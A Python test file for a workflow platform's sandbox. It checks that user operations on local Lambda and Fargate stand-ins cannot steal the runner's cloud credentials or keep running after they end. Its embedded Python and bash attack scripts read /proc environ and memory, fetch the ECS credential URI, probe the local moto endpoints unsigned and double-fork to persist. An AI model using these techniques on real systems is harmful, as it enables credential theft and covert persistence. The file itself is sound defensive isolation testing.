"""User code holds no cloud identity (issue 12, item 2): an operation that tries every way to the runner's
credentials, and to outlive its run, gets nowhere, in python and in bash, on Lambda and on Fargate.

Each operation is one hostile script that records the outcome of every attempt in its `report` output
("GOT ..." when an attempt succeeded); the test asserts each outcome. The attacker knows the local stack's
moto port (a parameter): not knowing it is no barrier.
"""
from __future__ import annotations

import json
import os
import subprocess
import sys
import tempfile
import time
from typing import Any

from tests.helpers import by_title, graph, instance, log_id, operation, output_id

PYTHON_ATTACK = r'''
import json, os, socket, subprocess, sys, time, urllib.request

report = {}
port, beat = int(params["moto_port"]), params["heartbeat"]
endpoint = f"http://127.0.0.1:{port}"


def attempt(name, action):
    try:
        report[name] = "GOT " + str(action())[:300]
    except BaseException as exc:  # every failure is the expected outcome, recorded
        report[name] = f"failed: {type(exc).__name__}: {str(exc)[:200]}"


# 1. credentials in the environment
def environment():
    found = {k: v for k, v in os.environ.items()
             if k.startswith(("AWS_", "ECS_", "PLYNX_", "LAMBDA_")) or any(w in k for w in ("SECRET", "TOKEN", "KEY"))}
    if found:
        return found
    raise LookupError(f"none among {sorted(os.environ)}")
attempt("environment", environment)

# 2. the runner's environment and memory: every ancestor up to init, the orchestrator among them
ancestors, pid = [], os.getppid()
while pid > 1:
    with open(f"/proc/{pid}/cmdline", "rb") as f:
        command = f.read().replace(b"\0", b" ").decode(errors="replace").strip()
    ancestors.append([pid, command])
    with open(f"/proc/{pid}/status") as f:
        pid = int(next(l for l in f if l.startswith("PPid:")).split()[1])
report["ancestors"] = ancestors


def read_environ(pid):
    with open(f"/proc/{pid}/environ", "rb") as f:
        data = f.read()
    if not data:
        raise PermissionError("empty")
    return data.replace(b"\0", b" ").decode(errors="replace")


def read_mem(pid):
    with open(f"/proc/{pid}/mem", "rb") as f:
        try:
            with open(f"/proc/{pid}/maps") as m:
                start = int(next(l for l in m if "[heap]" in l or "rw" in l.split()[1]).split("-")[0], 16)
        except OSError:
            start = 0x400000
        f.seek(start)
        data = f.read(4096)
    if not data:
        raise PermissionError("nothing read")
    return data[:64]


runners = []  # and every process of the runner, wherever it is in the tree (a warm runner's workers)
for entry in os.listdir("/proc"):
    try:
        with open(f"/proc/{entry}/cmdline", "rb") as f:
            command = f.read().replace(b"\0", b" ").decode(errors="replace")
    except OSError:
        continue
    if entry.isdigit() and any(w in command for w in ("warm_runner", "-m runners", "pytest", "infra.local")):
        runners.append(int(entry))
report["runners"] = runners
for pid in {p for p, _ in ancestors} | set(runners):
    attempt(f"environ {pid}", lambda: read_environ(pid))
    attempt(f"mem {pid}", lambda: read_mem(pid))


# 3. the ECS credential URI (Fargate's task role): in our environment or any ancestor's
def ecs_credentials():
    uris = [os.environ.get(n) for n in ("AWS_CONTAINER_CREDENTIALS_RELATIVE_URI", "AWS_CONTAINER_CREDENTIALS_FULL_URI")]
    for pid, _ in ancestors:
        try:
            uris += [v.split("=", 1)[1] for v in read_environ(pid).split() if v.startswith("AWS_CONTAINER_CREDENTIALS_")]
        except OSError:
            pass
    uris = [u for u in uris if u]
    if not uris:
        raise LookupError("no credential URI anywhere")
    url = uris[0] if uris[0].startswith("http") else "http://169.254.170.2" + uris[0]
    try:
        return urllib.request.urlopen(url, timeout=2).read()
    except OSError as exc:
        return f"the URI {uris[0]} ({exc})"
attempt("ecs credential uri", ecs_credentials)

# 4. the SDK, with whatever credentials it finds, with made-up keys, without and with the local endpoint
import boto3
from botocore.config import Config

config = Config(retries={"max_attempts": 1}, connect_timeout=2, read_timeout=5)
found = boto3.session.Session(region_name="us-east-1")
made_up = boto3.session.Session(aws_access_key_id="testing", aws_secret_access_key="testing", region_name="us-east-1")
attempt("dynamodb, no endpoint", lambda: found.client("dynamodb", config=config).list_tables())
attempt("s3, no endpoint", lambda: found.client("s3", config=config).list_buckets())
attempt("dynamodb, endpoint", lambda: found.client("dynamodb", endpoint_url=endpoint, config=config).scan(TableName="plynx-users"))
attempt("dynamodb, endpoint, made-up keys",
        lambda: made_up.client("dynamodb", endpoint_url=endpoint, config=config).scan(TableName="plynx-users"))
attempt("s3, endpoint, made-up keys",
        lambda: made_up.client("s3", endpoint_url=endpoint, config=config).list_objects_v2(Bucket="plynx-artifacts"))
attempt("s3 write, endpoint, made-up keys",
        lambda: made_up.client("s3", endpoint_url=endpoint, config=config).put_object(Bucket="plynx-artifacts", Key="x", Body=b"x"))
attempt("lambda invoke, endpoint, made-up keys",
        lambda: made_up.client("lambda", endpoint_url=endpoint, config=config).invoke(
            FunctionName="plynx-runner", Payload=b'{"action": "start", "graph_id": "x", "run_id": "x"}')["Payload"].read())


def raw(method, path, body=b"", headers=None):
    request = urllib.request.Request(endpoint + path, data=body or None, method=method, headers=headers or {})
    with urllib.request.urlopen(request, timeout=5) as response:
        return response.status, response.read()[:200]
attempt("dynamodb, endpoint, unsigned",
        lambda: raw("POST", "/", b'{"TableName": "plynx-users"}', {"X-Amz-Target": "DynamoDB_20120810.Scan",
                                                                     "Content-Type": "application/x-amz-json-1.0"}))
attempt("s3, endpoint, unsigned", lambda: raw("GET", "/plynx-artifacts?list-type=2"))
attempt("moto state dump", lambda: raw("GET", "/moto-api/data.json"))
attempt("moto auth off", lambda: raw("POST", "/moto-api/reset-auth", b"1000000"))

# 5. outlive the operation: setsid and a double fork, beating a heartbeat file
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(600):
            with open(beat, "w") as f:
                f.write(f"{os.getpid()} {time.time()}")
            time.sleep(0.1)
    os._exit(0)
deadline = time.time() + 10
while not os.path.exists(beat) and time.time() < deadline:
    time.sleep(0.05)
report["identity"] = [os.getuid(), os.getgid()]
open(outputs["report"], "w").write(json.dumps(report))
'''

BASH_ATTACK = r'''
report={{ outputs.report }}
port={{ params['moto_port'] }}
beat={{ params['heartbeat'] }}
note() { printf '%s\t%s\n' "$1" "$2" >> "$report"; }

found=$(env | grep -E '^(AWS_|ECS_|PLYNX_|LAMBDA_)|SECRET|TOKEN|KEY' || true)
if [ -n "$found" ]; then note environment "GOT $found"; else note environment "failed: none"; fi

chain=""
attack() {  # the environment and the memory of process $1
  if out=$(tr '\0' ' ' 2>/dev/null < /proc/$1/environ) && [ -n "$out" ]; then note "environ $1" "GOT $out"
  else note "environ $1" "failed: $(cat /proc/$1/environ 2>&1 >/dev/null)"; fi
  if data=$(dd if=/proc/$1/mem bs=4096 count=1 skip=1024 2>/dev/null | od -An -tx1 | head -1) && [ -n "$data" ]; then
    note "mem $1" "GOT $data"; else note "mem $1" "failed: $(dd if=/proc/$1/mem bs=4096 count=1 skip=1024 2>&1 >/dev/null | head -1)"; fi
  case "$out" in *AWS_CONTAINER_CREDENTIALS_*) chain="found";; esac
}
pid=$PPID
while [ "$pid" -gt 1 ]; do
  note ancestor "$pid $(tr '\0' ' ' < /proc/$pid/cmdline)"
  attack "$pid"
  pid=$(awk '/^PPid:/ {print $2}' /proc/$pid/status)
done
for entry in /proc/[0-9]*; do  # and every process of the runner, wherever it is in the tree
  case "$(tr '\0' ' ' < $entry/cmdline 2>/dev/null)" in *warm_runner*|*"-m runners"*|*pytest*|*infra.local*)
    note runner "${entry#/proc/}"; attack "${entry#/proc/}";; esac
done
if [ -n "${AWS_CONTAINER_CREDENTIALS_RELATIVE_URI}${AWS_CONTAINER_CREDENTIALS_FULL_URI}${chain}" ]; then
  note "ecs credential uri" "GOT ${AWS_CONTAINER_CREDENTIALS_RELATIVE_URI}${AWS_CONTAINER_CREDENTIALS_FULL_URI}${chain}"
else note "ecs credential uri" "failed: no credential URI anywhere"; fi

http() {  # an unsigned request to the local moto, with bash's own /dev/tcp
  exec 3<>/dev/tcp/127.0.0.1/$port || return 1
  printf '%s %s HTTP/1.0\r\nHost: 127.0.0.1\r\n%sContent-Length: %s\r\n\r\n%s' "$1" "$2" "$3" "$(printf %s "$4" | wc -c)" "$4" >&3
  timeout 5 head -c 300 <&3 | tr '\r\n' '  '
  exec 3<&-
}
status() { case "$1" in "HTTP/1."?" 2"*) echo "GOT $1";; *) echo "failed: $1";; esac; }
note "dynamodb, endpoint, unsigned" "$(status "$(http POST / $'X-Amz-Target: DynamoDB_20120810.Scan\r\nContent-Type: application/x-amz-json-1.0\r\n' '{"TableName": "plynx-users"}')")"
note "s3, endpoint, unsigned" "$(status "$(http GET '/plynx-artifacts?list-type=2' '' '')")"
note "moto state dump" "$(status "$(http GET /moto-api/data.json '' '')")"
note "moto auth off" "$(status "$(http POST /moto-api/reset-auth '' 1000000)")"

( ( setsid bash -c 'for i in $(seq 600); do echo "$$ $(date +%s.%N)" > "$0"; sleep 0.1; done' "$beat" & ) & )
for i in $(seq 100); do [ -s "$beat" ] && break; sleep 0.05; done
note identity "$(id -u) $(id -g)"
'''


def _reports(api: Any, shared_tmp: Any, stack: Any) -> dict[str, tuple[dict, dict, str]]:
    """Run the four attacks (python and bash, on Lambda and on Fargate) in one graph; each one's report."""
    nodes, beats = [], {}
    for kind, script in (("python", PYTHON_ATTACK), ("bash_jinja2", BASH_ATTACK)):
        for placement in ("lambda", "fargate"):
            title = f"{kind} on {placement}"
            beats[title] = str(shared_tmp / f"{kind}-{placement}.beat")
            node = operation(kind, title, script, outputs=["report"],
                             params={"moto_port": str(stack.moto_port), "heartbeat": beats[title],
                                     "_placement": placement, "salt": str(shared_tmp)})
            nodes.append(instance(api.save_operation(node)))
    body = api.ok("post", "graphs", json={"graph": graph("attacks", nodes), "actions": ["SAVE", "APPROVE"]})
    assert body["status"] == "SUCCESS", body.get("validation_error")
    result = api.wait(body["graph"]["_id"], timeout=180)
    reports = {}
    for title, beat in beats.items():
        node = by_title(result, title)
        logs = {name: api.resource(log_id(node, name)).decode() for name in ("stderr", "worker")}
        assert node["node_running_status"] == "SUCCESS", logs
        text = api.resource(output_id(node, "report")).decode()
        if title.startswith("python"):
            report = json.loads(text)
        else:
            report, ancestors, runners = {}, [], []
            for line in text.splitlines():
                name, _, outcome = line.partition("\t")
                if name == "ancestor":
                    ancestors.append([int(outcome.split(" ", 1)[0]), outcome.split(" ", 1)[1]])
                elif name == "runner":
                    runners.append(int(outcome))
                elif name == "identity":
                    report[name] = [int(n) for n in outcome.split()]
                else:
                    report[name] = outcome
            report["ancestors"], report["runners"] = ancestors, runners
        reports[title] = (report, logs, beat)
    return reports


def _heartbeat(path: str) -> tuple[int, float]:
    pid, stamp = open(path).read().split()
    return int(pid), float(stamp)


def test_an_operation_reaches_no_credential_and_leaves_nothing_running(api, stack, shared_tmp) -> None:
    reports = _reports(api, shared_tmp, stack)
    key_id, secret = stack.credentials
    for title, (report, logs, beat) in reports.items():
        where = f"{title}: {json.dumps(report, indent=1)}"
        # every attempt failed, and none of the control plane's secrets shows anywhere in the report
        got = {name: outcome for name, outcome in report.items() if isinstance(outcome, str) and outcome.startswith("GOT")}
        assert not got, where
        assert key_id not in json.dumps(report) and secret not in json.dumps(report), where
        expected = {"environment", "ecs credential uri", "dynamodb, endpoint, unsigned", "s3, endpoint, unsigned",
                    "moto state dump", "moto auth off"}
        if title.startswith("python"):
            expected |= {"dynamodb, no endpoint", "s3, no endpoint", "dynamodb, endpoint",
                         "dynamodb, endpoint, made-up keys", "s3, endpoint, made-up keys",
                         "s3 write, endpoint, made-up keys", "lambda invoke, endpoint, made-up keys"}
        assert expected <= set(report), where
        # the made-up keys were refused by the local control plane (not lost for want of a network)
        for name in ("dynamodb, endpoint, made-up keys", "s3, endpoint, made-up keys", "s3 write, endpoint, made-up keys",
                     "lambda invoke, endpoint, made-up keys"):
            if name in report:
                assert "ClientError" in report[name] and any(
                    code in report[name] for code in ("403", "InvalidAccessKeyId", "InvalidClientTokenId")), where
        assert "NoCredentialsError" in report.get("dynamodb, endpoint", "NoCredentialsError"), where
        for name in ("dynamodb, endpoint, unsigned", "s3, endpoint, unsigned", "moto state dump", "moto auth off"):
            assert "403" in report[name], where
        # the walk went through the runner's processes, and /proc/<pid>/environ|mem failed on each
        runner = "infra.local.warm_runner" if title.endswith("lambda") else "-m runners"
        ancestors = report["ancestors"]
        assert len(ancestors) >= 3 and any(runner in command for _, command in ancestors), where
        assert os.getpid() in report["runners"], where  # this process: the local stack's control plane
        for pid in {p for p, _ in ancestors} | set(report["runners"]):
            assert report[f"environ {pid}"].startswith("failed") and report[f"mem {pid}"].startswith("failed"), where
        if os.geteuid() == 0:  # a root runner gives the operation a uid of its own, never root's
            assert 0 not in report["identity"], where
    # the process each operation left behind (setsid, double fork) was killed when it ended
    time.sleep(0.5)
    for title, (_, _, beat) in reports.items():
        pid, stamp = _heartbeat(beat)
        assert not os.path.exists(f"/proc/{pid}"), f"{title}: its background process {pid} is alive"
        time.sleep(0.3)
        assert _heartbeat(beat)[1] == stamp, f"{title}: the heartbeat goes on"


def test_a_local_fargate_task_gets_a_credential_uri_as_on_fargate() -> None:
    """The attack above is not vacuous on Fargate: the local task's runner has the URI the operation lacks."""
    from infra.local import patches

    environment = patches.task_environment({"Cluster": "arn:aws:ecs:us-east-1:123456789012:cluster/plynx-local"})
    assert environment["AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"].startswith("/v2/credentials/")


# A runner as on Lambda or Fargate: not root, so its operation runs under the same uid. What closes the
# runner's /proc/<pid>/environ and mem then is that it is non-dumpable; a dumpable process of the same uid
# (the control) stays readable, which shows the barrier that holds is that one.
SAME_UID_OPERATION = r'''
import json, os, time
def read(path):
    try:
        with open(path, "rb") as f:
            return "GOT " + f.read(4096).replace(bytes(1), b" ").decode(errors="replace")
    except OSError as exc:
        return f"failed: {exc}"
found, pid = {}, os.getppid()
while pid > 1:
    found[pid] = [read(f"/proc/{pid}/environ"), read(f"/proc/{pid}/mem")]
    pid = int(next(l for l in open(f"/proc/{pid}/status") if l.startswith("PPid:")).split()[1])
print(json.dumps({"uid": os.getuid(), "env": sorted(os.environ), "ancestors": found,
                  "control": read(f"/proc/{os.environ['CONTROL']}/environ")}))
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(60)
    os._exit(0)
'''

SAME_UID_RUNNER = r'''
import json, os, subprocess, sys, tempfile
from runners import executors, zygote

control = subprocess.Popen(["sleep", "60"], env={"AWS_SECRET_ACCESS_KEY": "in-a-dumpable-process"})
executors.seal(dedicated=True)
workdir = tempfile.mkdtemp(prefix="plynx-")
script, out = os.path.join(workdir, "exec.py"), os.path.join(workdir, "out")
open(script, "w").write(sys.argv[1])
with open(out, "wb") as stream:
    environment = zygote.operation_environment(workdir)
    environment["CONTROL"] = str(control.pid)
    operation = executors._zygote().spawn("python", script, workdir, stream.fileno(), stream.fileno(), environment)
code = operation.wait(60)
executors._sweep()
report = json.loads(open(out).read().splitlines()[0])
report.update(code=code, runner=os.getpid(), runner_uid=os.getuid(), zygote=executors._zygote().pid,
              left=[pid for pid in zygote.children(os.getpid()) if pid != control.pid])
control.kill()
print(json.dumps(report))
'''


def _demote() -> None:
    """In the runner's child, as root: become nobody, with the interpreter in reach (as an operation would)."""
    from runners import zygote

    zygote._expose(zygote.hidden_paths([sys.executable, sys.prefix, sys.base_prefix, *sys.path]))
    os.setgroups([])
    os.setresgid(65534, 65534, 65534)
    os.setresuid(65534, 65534, 65534)


def test_under_the_runners_own_uid_its_memory_and_environment_stay_closed() -> None:
    repo = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
    done = subprocess.run([sys.executable, "-c", SAME_UID_RUNNER, SAME_UID_OPERATION], cwd=tempfile.gettempdir(),
                          capture_output=True, text=True, timeout=120,
                          env={**os.environ, "PYTHONPATH": repo, "AWS_SECRET_ACCESS_KEY": "in-the-runner"},
                          preexec_fn=_demote if os.geteuid() == 0 else None)
    assert done.returncode == 0, done.stderr
    report = json.loads(done.stdout.strip().splitlines()[-1])
    assert report["code"] == 0 and report["uid"] == report["runner_uid"] != 0  # one uid, as on Lambda
    assert not any(name.startswith("AWS_") for name in report["env"])
    ancestors = {int(pid): outcome for pid, outcome in report["ancestors"].items()}
    assert report["runner"] in ancestors and report["zygote"] in ancestors
    for pid, (environ, mem) in ancestors.items():
        assert environ.startswith("failed") and mem.startswith("failed"), (pid, environ, mem)
    assert report["control"].startswith("GOT") and "in-a-dumpable-process" in report["control"]
    assert report["left"] == [report["zygote"]]  # the operation's double-forked child is gone
